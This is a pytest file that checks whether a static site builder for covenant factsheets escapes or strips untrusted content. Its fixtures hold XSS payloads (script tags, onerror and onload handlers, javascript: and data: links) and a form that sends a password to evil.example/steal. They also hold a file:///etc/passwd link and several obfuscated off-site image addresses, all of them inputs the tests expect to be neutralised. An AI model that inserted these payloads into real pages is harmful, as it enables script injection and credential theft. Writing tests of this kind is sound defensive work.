"""Untrusted text never reaches a built page as markup: a small hostile content set is built
with build_site and every page's HTML is searched for what must not be there; editors' HTML
brings no forms, drawings or requests to other hosts."""

from __future__ import annotations

import html as html_module
import shutil
from html.parser import HTMLParser
from pathlib import Path

import pytest
from bad_content import old_site
from bad_content import run_build as bad_run_build
from bad_content import snapshot as bad_snapshot
from build_options import options

from imvo.build.orchestrate import build_site
from imvo.messages.problems import ContentError
from imvo.outputs.steps import post_steps
from imvo.validate import load_content

FIXTURE = Path(__file__).resolve().parent / "fixtures" / "content"


HOSTILE_NAME = "Convenant <script>alert('name')</script> <b onmouseover=alert('b')>vet</b>"
HOSTILE_SUMMARY = """\
Een "><script>alert('desc')</script> convenant. <script>alert('summary')</script>
<img src="x" onerror="alert('img')"> <a href="javascript:alert('a')">klik</a>
[md-js](javascript:alert('md')) [md-data](data:text/html;base64,PHNjcmlwdD4=)
<iframe src="https://evil.example/"></iframe> <svg onload="alert('svg')"></svg>
<div style="background:url(javascript:alert('css'))">stijl</div>
<form action="javascript:alert('form')"><button formaction="javascript:alert('f')">b</button></form>
"""

OPEN_TAGS = (
    'An <a href="https://example.org/">agreement <b>with <details><summary>tags <select>'
    "<button>left <table>open <textarea><iframe><style><script>and more"
)
"""An English summary that opens tags and never closes them."""


def hostile_content(folder: Path) -> Path:
    """The fixture content with script, handlers and unsafe links in every kind of field."""
    content = folder / "content"
    shutil.copytree(FIXTURE, content)
    covenant = content / "covenants" / "voorbeeld.yaml"
    text = covenant.read_text("utf-8")
    indented = "".join(f"    {line}\n" for line in HOSTILE_SUMMARY.splitlines())
    text = text.replace("  nl: Convenant Voorbeeldsector", f'  nl: "{HOSTILE_NAME}"', 1)
    text = text.replace("  nl: Een convenant om de fixture te testen.", f"  nl: |\n{indented}")
    text = text.replace("  nl: Klachten gaan", "  nl: <script>alert('complaints')</script> Gaan")
    text = text.replace("  en: An agreement to test the fixture.", f"  en: '{OPEN_TAGS}'")
    covenant.write_text(text, encoding="utf-8")
    about = content / "texts" / "about.nl.md"
    body = about.read_text("utf-8").splitlines()[1:]
    about.write_text(
        "# Over <script>alert('nav')</script> <img src=x onerror=alert('navimg')>\n"
        + "\n".join(body)
        + "\n<script>alert('text')</script>\n"
        + "<a href=\"javascript:alert('t')\" onclick=\"alert('c')\">x</a>\n",
        encoding="utf-8",
    )
    parties = content / "parties.yaml"
    parties.write_text(
        parties.read_text("utf-8").replace(
            "    name: FNV\n", "    name: \"FNV <script>alert('party')</script>\"\n", 1
        ),
        encoding="utf-8",
    )
    return content


@pytest.fixture(scope="module")
def hostile_site(tmp_path_factory: pytest.TempPathFactory) -> Path:
    """The hostile content set, built without PDFs."""
    folder = tmp_path_factory.mktemp("hostile")
    corpus = load_content(hostile_content(folder), folder)
    build_site(
        corpus, built := options(site=folder / "site", pdf=False), post_steps=post_steps(built)
    )
    return folder / "site"


def pages(site: Path) -> dict[str, str]:
    """Every HTML page of the built site, by path."""
    return {p.relative_to(site).as_posix(): p.read_text("utf-8") for p in site.rglob("*.html")}


class Markup(HTMLParser):
    """What a browser would treat as markup: tags with their attributes, and script text."""

    def __init__(self, html: str) -> None:
        super().__init__(convert_charrefs=True)
        self.tags: list[tuple[str, dict[str, str]]] = []
        self.scripts: list[str] = []
        self._in_script = False
        self.feed(html)

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.tags.append((tag, {name: value or "" for name, value in attrs}))
        self._in_script = tag == "script"

    def handle_endtag(self, tag: str) -> None:
        self._in_script = False

    def handle_data(self, data: str) -> None:
        if self._in_script:
            self.scripts.append(data)


def parsed(site: Path) -> dict[str, Markup]:
    """Every page of the site, parsed."""
    return {path: Markup(html) for path, html in pages(site).items()}


def test_no_injected_script_on_any_page(hostile_site: Path) -> None:
    found = {
        path: [text for text in page.scripts if "alert(" in text]
        for path, page in parsed(hostile_site).items()
    }
    assert {path: hits for path, hits in found.items() if hits} == {}
    assert "&lt;script&gt;alert(" in (hostile_site / "voorbeeld.html").read_text("utf-8")


def test_no_event_handler_attribute_on_any_page(hostile_site: Path) -> None:
    found = {
        (path, tag, name)
        for path, page in parsed(hostile_site).items()
        for tag, attrs in page.tags
        for name in attrs
        if name.startswith("on")
    }
    assert found == set()


def test_no_javascript_or_data_link_on_any_page(hostile_site: Path) -> None:
    found = {
        (path, tag, value)
        for path, page in parsed(hostile_site).items()
        for tag, attrs in page.tags
        for name, value in attrs.items()
        if name in {"href", "src", "action", "formaction", "xlink:href"}
        and value.strip().lower().startswith(("javascript:", "data:", "vbscript:"))
    }
    assert found == set()


def test_no_iframe_style_or_form_from_content(hostile_site: Path) -> None:
    html = (hostile_site / "voorbeeld.html").read_text("utf-8")
    assert "<iframe" not in html
    assert "evil.example" not in html
    assert "url(javascript" not in html
    assert "formaction" not in html


def test_hostile_name_is_shown_as_text(hostile_site: Path) -> None:
    html = (hostile_site / "voorbeeld.html").read_text("utf-8")
    shown = (
        "Convenant &lt;script&gt;alert('name')&lt;/script&gt; &lt;b onmouseover=alert('b')&gt;vet"
    )
    # The title is the short name; the official (hostile) name is the caption under it.
    assert '<h1 id="voorbeeld">Voorbeeld</h1>' in html
    assert (
        '<p class="imvo-official-name"><span class="imvo-visually-hidden">Officiële naam: '
        f"</span>{shown}"
    ) in html
    # The theme's header and <title> print the page title unescaped: it arrives escaped.
    assert "<title>Convenant &lt;script&gt;alert(" in html
    assert html.count("&lt;script&gt;alert('name')") >= 1
    assert "<script>alert('name')" not in html


def test_hostile_menu_title_is_text_on_every_page(hostile_site: Path) -> None:
    for path, html in pages(hostile_site).items():
        assert "<script>alert('nav')" not in html, path
        assert "<img src=x onerror" not in html, path
    assert "Over &lt;script&gt;alert" in (hostile_site / "index.html").read_text("utf-8")


def test_markdown_links_keep_text_but_lose_unsafe_address(hostile_site: Path) -> None:
    html = (hostile_site / "voorbeeld.html").read_text("utf-8")
    page = Markup(html)
    links = [attrs for tag, attrs in page.tags if tag == "a" and "href" not in attrs]
    assert '<a title="md">md-js</a>' in html
    assert "<a>md-data</a>" in html
    assert "<a>klik</a>" in html
    assert len(links) >= 3


@pytest.mark.parametrize(
    "url",
    [
        "javascript:alert(1)",
        "JavaScript:alert(1)",
        " javascript:alert(1)",
        "data:text/html,<script>alert(1)</script>",
        "vbscript:msgbox(1)",
        "file:///etc/passwd",
        "//evil.example/",
    ],
)
def test_unsafe_link_in_a_url_field_is_refused(url: str, tmp_path: Path) -> None:
    content = tmp_path / "content"
    shutil.copytree(FIXTURE, content)
    covenant = content / "covenants" / "voorbeeld.yaml"
    text = covenant.read_text("utf-8").replace("url: https://example.org/\n", f"url: '{url}'\n")
    covenant.write_text(text, encoding="utf-8")
    with pytest.raises(ContentError) as raised:
        load_content(content, tmp_path)
    assert [p.text() for p in raised.value.problems] == [
        "content/covenants/voorbeeld.yaml:54: first link, url: expected a web address starting "
        f"with https:// (or mailto:); got {url!r}"
    ]


class Nesting(HTMLParser):
    """The elements open around each heading with an id, as a browser would nest them."""

    VOID = frozenset({"br", "img", "input", "meta", "link", "hr", "source", "wbr", "area", "col"})

    def __init__(self, html: str) -> None:
        super().__init__(convert_charrefs=True)
        self.stack: list[str] = []
        self.around: dict[str, list[str]] = {}
        self.feed(html)

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        found = dict(attrs)
        if tag in {"h2", "h3"} and found.get("id"):
            self.around[str(found["id"])] = list(self.stack)
        if tag not in self.VOID:
            self.stack.append(tag)

    def handle_endtag(self, tag: str) -> None:
        if tag in self.stack:
            while self.stack.pop() != tag:
                pass


def test_tags_left_open_in_a_text_end_with_that_text(hostile_site: Path) -> None:
    html = (hostile_site / "en" / "voorbeeld.html").read_text("utf-8")
    article = html[html.index("<article") : html.index("</article>")]
    around = Nesting(article).around
    assert list(around)[:7] == [
        "glance",
        "what-you-can-do",
        "complaints",
        "results",
        "key-facts",
        "summary",
        "goals",
    ]
    opened = {"a", "b", "details", "summary", "select", "button", "table", "textarea"}
    assert {anchor: set(tags) & opened for anchor, tags in around.items()} == {
        anchor: set() for anchor in around
    }
    assert around["sources"] == around["summary"]
    assert "A living wage." in article
    assert "Complaints go to the complaints committee." in article
    assert '<a href="https://example.org/">agreement <b>with </b></a>' in article
    assert "<select" not in article and "<button" not in article


# --- 3. Editors' HTML: no block shape brings forms, drawings or requests to other hosts ----

BLOCKS = [
    '<form action="https://evil.example/steal" class="evil"><input type="password" '
    'name="pw" class="evil"><button formaction="https://evil.example/f" class="evil">OK'
    "</button></form>",
    '<svg class="evil"><image href="https://evil.example/svg.png"/>'
    '<use href="https://evil.example/s.svg#a"/></svg>',
    '<div class="evil"><form><input type="password" class="evil"></form></div>',
    '<p class="evil"><svg class="evil"><a href="https://evil.example/"><text>x</text></a>'
    "</svg></p>",
    '<table class="evil"><tr><td><form class="evil"><select class="evil"></select></form>'
    "</td></tr></table>",
    '<h2 class="evil">Kop <a href="https://www.ser.nl/" class="evil">h</a></h2>',
    '<section class="evil"><img src="pixel.png" alt="own"></section>',
    '<div style="background:url(https://evil.example/bg.png)" class="evil">bg</div>',
    '<ul class="evil"><li><img srcset="https://evil.example/set.png 1x"></li>'
    '<li><video poster="https://evil.example/poster.png"></video></li></ul>',
    '<div><meta http-equiv="refresh" content="0;url=https://evil.example/"></div>',
    '<nav><base href="https://evil.example/"></nav>',
    '<figure><object data="https://evil.example/o"></object><embed src="https://evil.example/e">'
    '<iframe src="https://evil.example/i"></iframe></figure>',
    '<dl><dt>a</dt><dd><link rel="stylesheet" href="https://evil.example/s.css"></dd></dl>',
]
"""Paragraphs that are each one block element, as an editor might write them."""

LOADING = {
    "src", "srcset", "poster", "data", "background", "formaction", "action", "xlink:href",
}  # fmt: skip


def _blocks_content(folder: Path) -> Path:
    content = folder / "content"
    shutil.copytree(FIXTURE, content)
    covenant = content / "covenants" / "voorbeeld.yaml"
    text = covenant.read_text("utf-8")
    paragraphs = "".join(f"    {block}\n\n" for block in BLOCKS).rstrip("\n") + "\n"
    for old in ("  nl: Een convenant om de fixture te testen.", "  nl: Klachten gaan"):
        line = next(line for line in text.splitlines() if line.startswith(old))
        text = text.replace(line, f"  nl: |\n    {line[6:]}\n\n{paragraphs}", 1)
    covenant.write_text(text, encoding="utf-8")
    about = content / "texts" / "about.nl.md"
    about.write_text(about.read_text("utf-8") + "\n" + "\n\n".join(BLOCKS) + "\n", encoding="utf-8")
    return content


@pytest.fixture(scope="module")
def blocks_site(tmp_path_factory: pytest.TempPathFactory) -> Path:
    """Every block shape in a factsheet's fields and in a text page, built without PDFs."""
    folder = tmp_path_factory.mktemp("blocks")
    corpus = load_content(_blocks_content(folder), folder)
    build_site(
        corpus, built := options(site=folder / "site", pdf=False), post_steps=post_steps(built)
    )
    return folder / "site"


@pytest.mark.parametrize("page", ["voorbeeld.html", "over-deze-site.html"])
def test_no_block_shape_brings_forms_or_drawings(blocks_site: Path, page: str) -> None:
    html = (blocks_site / page).read_text("utf-8")
    found = Markup(html).tags
    evil = [(tag, attrs) for tag, attrs in found if "evil" in attrs.get("class", "").split()]
    assert {tag for tag, _ in evil} <= {"div", "p", "table", "h2", "a", "section", "ul"}
    assert "evil.example" not in html
    assert "password" not in html
    assert not {"form", "input", "select", "button", "svg", "image", "use"} & {
        tag for tag, attrs in evil
    }
    assert "bg</div>" in html  # the text of a block stays; only what is unsafe goes


def test_no_page_makes_the_browser_go_to_another_host(blocks_site: Path) -> None:
    from imvo.render.sanitize import leaves_the_site

    found = []
    for path, page in parsed(blocks_site).items():
        for tag, attrs in page.tags:
            for name, value in attrs.items():
                loads = name in LOADING or (name == "href" and tag in {"link", "image", "use"})
                if loads and (leaves_the_site(value) or "\\" in value):
                    found.append((path, tag, name, value))
                if name == "style" and "url(" in value.replace(" ", ""):
                    found.append((path, tag, name, value))
                if tag == "meta" and attrs.get("http-equiv", "").lower() == "refresh":
                    found.append((path, tag, name, value))
            if tag == "base":
                found.append((path, tag, "", ""))
    assert found == []


IMAGES = [
    "\\\\evil.example/a.png",
    "\\/evil.example/b.png",
    "/\\evil.example/c.png",
    "/&#9;/evil.example/d.png",
    "/&#10;/evil.example/e.png",
    " https://evil.example/f.png",
    "HTTPS://evil.example/g.png",
    "//evil.example/h.png",
]
"""Image addresses a browser loads from another host, however they are written."""


@pytest.mark.parametrize("src", IMAGES)
def test_an_image_from_another_host_is_dropped_however_written(src: str) -> None:
    from imvo.render.sanitize import sanitize, sanitize_text

    for clean in (sanitize, sanitize_text):
        assert clean(f'<p><img src="{src}" alt="x"></p>') == '<p><img alt="x"></p>'


@pytest.mark.parametrize("src", IMAGES[:3])
def test_an_image_from_another_host_in_raw_html_is_an_error_on_its_line(
    src: str, tmp_path: Path, monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str]
) -> None:
    content = tmp_path / "content"
    shutil.copytree(FIXTURE, content)
    covenant = content / "covenants" / "voorbeeld.yaml"
    text = covenant.read_text("utf-8").replace(
        "  nl: Een convenant om de fixture te testen.",
        f"  nl: |\n    Een convenant.\n\n    <div><img src='{src}' alt=''></div>",
    )
    covenant.write_text(text, encoding="utf-8")
    before = old_site(tmp_path)
    built = bad_run_build(tmp_path, monkeypatch, capsys)
    shown = html_module.unescape(src)
    assert (built.code, built.err.splitlines()) == (
        1,
        [
            "The site was not built (the existing site is unchanged):",
            f"content/covenants/voorbeeld.yaml:32: (link): the image '{shown}' cannot be "
            "shown: the site shows only its own files and loads nothing from other sites; "
            "link to the image instead: [what it shows](address)",
        ],
    )
    assert bad_snapshot(tmp_path / "site") == before


@pytest.mark.parametrize(
    ("href", "message"),
    [
        ("nergens.html", "leads to no page of the site"),
        ("voorbeeld.yaml", "leads to no page of the site"),
        ("\\\\evil.example/", "is not a valid address"),
        ("over deze.html", "is not a valid address"),
    ],
)
def test_a_raw_link_is_checked_as_a_markdown_link_is(
    href: str,
    message: str,
    tmp_path: Path,
    monkeypatch: pytest.MonkeyPatch,
    capsys: pytest.CaptureFixture[str],
) -> None:
    content = tmp_path / "content"
    shutil.copytree(FIXTURE, content)
    about = content / "texts" / "about.en.md"
    about.write_text(
        about.read_text("utf-8") + f'\nSee <a href="{href}">this page</a>.\n', encoding="utf-8"
    )
    built = bad_run_build(tmp_path, monkeypatch, capsys)
    lines = built.err.splitlines()
    assert built.code == 1
    assert len(lines) == 2
    assert lines[1].startswith("content/texts/about.en.md:")
    assert f"(link): the link '{href}' {message}" in lines[1]


def test_raw_links_to_pages_anchors_and_other_sites_build(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str]
) -> None:
    content = tmp_path / "content"
    shutil.copytree(FIXTURE, content)
    about = content / "texts" / "about.en.md"
    links = [
        "overview.html",
        "voorbeeld.html#parties",
        "#top",
        "https://www.ser.nl/",
        "mailto:info@example.org",
    ]
    extra = "".join(f'<a href="{href}">link {n}</a> ' for n, href in enumerate(links))
    about.write_text(about.read_text("utf-8") + f"\n{extra}\n", encoding="utf-8")
    built = bad_run_build(tmp_path, monkeypatch, capsys)
    assert built.code == 0, built.err
